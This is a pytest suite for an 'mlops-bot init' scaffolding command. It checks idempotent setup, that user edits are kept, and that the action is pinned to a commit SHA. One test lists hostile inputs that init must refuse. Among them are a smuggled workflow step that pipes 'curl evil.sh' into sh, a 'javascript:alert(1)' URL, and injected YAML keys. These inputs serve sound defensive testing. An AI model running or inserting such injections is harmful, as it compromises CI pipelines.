"""`mlops-bot init` against the emulator: a working setup from nothing, idempotent, and polite to edits."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.config import config_from_document
from bot.scaffold.install import pinned_action
from bot.scaffold.plan import TITLE_LIMIT, check_init_values, desired_files
from bot.schemas import schema_problems
from bot.yaml_source import parse_yaml
from tests.helpers import BOT_TOKEN, run_cli
from tests.test_workflows import actionlint, zizmor

PIN = "acme/mlops-bot@0123456789abcdef0123456789abcdef01234567"


def init(github, path: Path, *extra: str):
    return run_cli(
        [
            "init",
            "--path",
            str(path),
            "--repo",
            "acme/churn",
            "--action-ref",
            PIN,
            "--action-version",
            "v1.0.0",
            "--project-url",
            "https://github.com/orgs/acme/projects/3",
            "--format",
            "json",
            *extra,
        ],
        cwd=path,
        env=github.env(BOT_TOKEN),
    )


@pytest.fixture
def empty_repo(github, tmp_path):
    github.state.repo("acme/churn")
    return tmp_path


def test_init_on_an_empty_repository_produces_a_clean_setup(github, empty_repo):
    result = init(github, empty_repo)
    assert result.code == 0, result.stderr
    report = result.json()
    assert {f["action"] for f in report["files"]} == {"create"}
    labels = github.state.repos["acme/churn"].labels
    assert {"ml-data", "ml-experiment", "ml-deployment", "type-mlops"} <= set(labels)
    assert labels["ml-monitoring"].color == "b60205" and labels["ml-monitoring"].description
    for path in (
        ".github/mlops.yml",
        ".github/pull_request_template.md",
        ".github/ISSUE_TEMPLATE/experiment.yml",
        ".github/workflows/mlops-bot.yml",
        ".github/workflows/site.yml",
        "mkdocs.yml",
        "site_src/runbooks/deployment.md",
    ):
        assert (empty_repo / path).is_file(), path
    assert "- [ ] Rollback tested" in (empty_repo / ".github/pull_request_template.md").read_text()
    validate = run_cli(["validate"], cwd=empty_repo)
    assert validate.code == 0, validate.stdout + validate.stderr
    assert "8 issue form(s), 2 workflow(s) checked; 0 problem(s)" in validate.stdout
    workflows = sorted((empty_repo / ".github" / "workflows").glob("*.yml"))
    for persona in ("regular", "pedantic"):
        assert zizmor(*workflows, persona=persona).returncode == 0
    assert actionlint(*workflows).returncode == 0
    built = run_cli(["site", "build"], cwd=empty_repo, timeout=300)
    assert built.code == 0, built.stderr
    assert (empty_repo / "site" / "runbooks" / "deployment" / "index.html").is_file()


def test_a_second_init_changes_nothing(github, empty_repo):
    init(github, empty_repo)
    github.clear()
    again = init(github, empty_repo)
    assert again.json()["changes"] == 0
    assert {f["action"] for f in again.json()["files"]} == {"unchanged"}
    assert [r for r in github.requests if r.method != "GET"] == []


def test_user_edits_survive_without_force(github, empty_repo):
    init(github, empty_repo)
    config = empty_repo / ".github" / "mlops.yml"
    config.write_text(config.read_text() + "columns:\n  Todo: {labels: [ml-data]}\n  Done: {}\n")
    github.state.repos["acme/churn"].labels["ml-data"].color = "000000"
    result = init(github, empty_repo)
    step = next(f for f in result.json()["files"] if f["path"] == ".github/mlops.yml")
    assert step["action"] == "skip" and "you changed it" in step["reason"]
    assert "Todo" in config.read_text()
    assert github.state.repos["acme/churn"].labels["ml-data"].color == "000000"
    assert next(x for x in result.json()["labels"] if x["name"] == "ml-data")["action"] == "keep"
    forced = init(github, empty_repo, "--force")
    assert "Todo" not in config.read_text() and forced.json()["changes"] >= 2
    assert github.state.repos["acme/churn"].labels["ml-data"].color == "0e8a16"


def test_files_that_were_there_before_are_kept(github, empty_repo):
    (empty_repo / "mkdocs.yml").write_text("site_name: Ours\n")
    result = init(github, empty_repo)
    step = next(f for f in result.json()["files"] if f["path"] == "mkdocs.yml")
    assert step["action"] == "skip" and "before init" in step["reason"]
    assert (empty_repo / "mkdocs.yml").read_text() == "site_name: Ours\n"


def test_labels_it_did_not_create_are_never_deleted(github, empty_repo):
    github.state.label(github.state.repos["acme/churn"], "bug")
    init(github, empty_repo)
    assert "bug" in github.state.repos["acme/churn"].labels
    assert not [r for r in github.requests if r.method == "DELETE"]


def test_dry_run_changes_nothing(github, empty_repo):
    result = init(github, empty_repo, "--dry-run")
    assert result.code == 0 and result.json()["changes"] > 0
    assert list(empty_repo.iterdir()) == []
    assert set(github.state.repos["acme/churn"].labels) == set()


def test_the_action_must_be_pinned(github, empty_repo):
    result = run_cli(["init", "--path", str(empty_repo), "--action-ref", "acme/mlops-bot@v1"], cwd=empty_repo)
    assert result.code == 2 and "full commit SHA" in result.stderr


def test_lock_file_records_what_init_wrote(github, empty_repo):
    init(github, empty_repo)
    lock = json.loads((empty_repo / ".github" / "mlops-init.lock").read_text())
    assert ".github/workflows/mlops-bot.yml" in lock and len(lock) >= 20


def test_init_ends_with_the_next_steps_and_a_real_install(github, empty_repo):
    result = run_cli(
        ["init", "--path", str(empty_repo), "--repo", "acme/churn", "--action-ref", PIN],
        cwd=empty_repo,
        env=github.env(BOT_TOKEN),
    )
    assert result.code == 0, result.stderr
    steps = result.stdout[result.stdout.index("Next steps:") :]
    for expected in (
        "gh secret set MLOPS_PROJECT_TOKEN --repo acme/churn",
        "mlops-bot init --board --repo acme/churn",
        "gh api -X POST repos/acme/churn/pages -f build_type=workflow",
        "mlops/deployment-checklist",
        "mlops-bot doctor --repo acme/churn",
        f'pip install "mlops-bot @ git+{github.urls.web}/acme/mlops-bot@{PIN.split("@")[1]}"',
    ):
        assert expected in steps, expected
    setup_page = (empty_repo / "site_src" / "setup.md").read_text()
    assert f"git+https://github.com/{PIN}" in setup_page and "OWNER/REPO" not in setup_page
    assert "<a release of mlops-bot>" not in setup_page


def test_init_adds_the_built_site_to_gitignore_once(github, empty_repo):
    (empty_repo / ".gitignore").write_text("__pycache__/\nsite\n")
    first = init(github, empty_repo)
    assert first.json()["gitignore"] == ["/site_src/generated/"]
    assert (empty_repo / ".gitignore").read_text() == (
        "__pycache__/\nsite\n\n# mlops-bot: the built site and its generated pages\n/site_src/generated/\n"
    )
    assert init(github, empty_repo).json()["gitignore"] == []


def test_the_projects_own_setup_page_names_the_placeholder_init_fills_in():
    from bot.scaffold.next_steps import ACTION_PLACEHOLDER

    page = (Path(__file__).resolve().parents[1] / "site_src" / "setup.md").read_text()
    assert f'pip install "mlops-bot @ git+https://github.com/{ACTION_PLACEHOLDER}"' in page


# ---- values that would inject YAML -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--action-version", "v1\n      - run: curl evil.sh | sh"),
        ("--action-version", "v1\n"),
        ("--action-version", 'v1" injected'),
        ("--action-version", "v1 # and more"),
        ("--action-version", "v1'"),
        ("--action-ref", PIN + "\n"),
        ("--repo", "acme/churn]\nsite: {title: x}"),
        ("--repo", "acme/churn\n"),
        ("--repo", "acme"),
        ("--project-url", "https://github.com/orgs/acme/projects/3\nrepositories: [evil/repo]"),
        ("--project-url", "https://github.com/orgs/acme/projects/3 # x"),
        ("--project-url", "javascript:alert(1)"),
        ("--title", "Handbook\nplugins: [evil]"),
        ("--title", "x" * 121),
        ("--title", "   "),
    ],
)
def test_values_that_would_inject_yaml_are_refused_before_anything_is_written(github, empty_repo, option, value):
    arguments = {
        "--path": str(empty_repo),
        "--repo": "acme/churn",
        "--action-ref": PIN,
        "--action-version": "v1.0.0",
        "--project-url": "https://github.com/orgs/acme/projects/3",
        option: value,
    }
    result = run_cli(
        ["init", *[w for pair in arguments.items() for w in pair]], cwd=empty_repo, env=github.env(BOT_TOKEN)
    )
    assert result.code == 2 and option in result.stderr, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert list(empty_repo.iterdir()) == [] and github.requests == []


SAFE_TITLE = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1, max_size=TITLE_LIMIT
).filter(lambda t: t.strip() and t.isprintable())


@settings(max_examples=60, deadline=None)
@given(title=SAFE_TITLE, board=st.integers(1, 10**9), view=st.sampled_from(["", "/views/2", "/views/1?layout=board"]))
def test_accepted_values_land_in_the_yaml_as_plain_values(title, board, view):
    """Whatever init accepts is read back exactly as given: quotes, colons, `#`, `{` and all."""
    url = f"https://github.com/orgs/acme/projects/{board}{view}"
    check_init_values(repository="acme/churn.ml", project_url=url, title=title)
    files = desired_files(
        config_from_document(parse_yaml("", "defaults")),
        repository="acme/churn.ml",
        project_url=url,
        action=pinned_action(PIN, "v1.2.0-rc.1+build_7"),
        title=title,
    )
    site_name = next(line for line in files["mkdocs.yml"].splitlines() if line.startswith("site_name:"))
    assert yaml.safe_load(site_name) == {"site_name": title}  # the rest of mkdocs.yml has MkDocs' own tags
    config = yaml.safe_load(files[".github/mlops.yml"])
    assert config["project_url"] == url and config["repositories"] == ["acme/churn.ml"]
    assert validate_config_text(files[".github/mlops.yml"]) == []
    workflow = yaml.safe_load(files[".github/workflows/mlops-bot.yml"])
    uses = [step["uses"] for job in workflow["jobs"].values() for step in job["steps"] if "mlops-bot@" in step["uses"]]
    assert uses and set(uses) == {PIN}


def validate_config_text(text: str) -> list:
    return schema_problems(parse_yaml(text, ".github/mlops.yml"), "config")
